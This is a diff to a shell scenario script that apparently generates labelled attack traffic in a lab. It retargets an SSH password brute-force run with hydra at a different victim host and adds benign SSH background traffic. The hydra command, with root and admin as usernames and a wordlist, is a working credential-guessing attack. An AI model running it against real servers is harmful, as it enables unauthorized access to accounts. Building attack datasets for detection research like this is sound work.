@@ -8,15 +8,16 @@
 
 servers() {
 	_port=$(choose 22 22 2222)
-	victim_ssh b "$_port"
+	victim_ssh d "$_port"
 	words_up 60
 }
 
 scenario() {
-	cd "$work" || return
 	_tasks=$(choose 1 2 4 8)
 	_user=$(choose root admin lab)
+	mix benign/ssh-automation
+	cd "$work" || return
 	setting options "-t $_tasks -l $_user port $_port"
-	attack s b tcp "$_port" -- timeout 50 hydra -I -t "$_tasks" -l "$_user" -P "$work/words" \
-		-s "$_port" "$(addr b)" ssh
+	attack s d tcp "$_port" -- timeout 50 hydra -I -t "$_tasks" -l "$_user" -P "$work/words" \
+		-s "$_port" "$(addr d)" ssh
 }
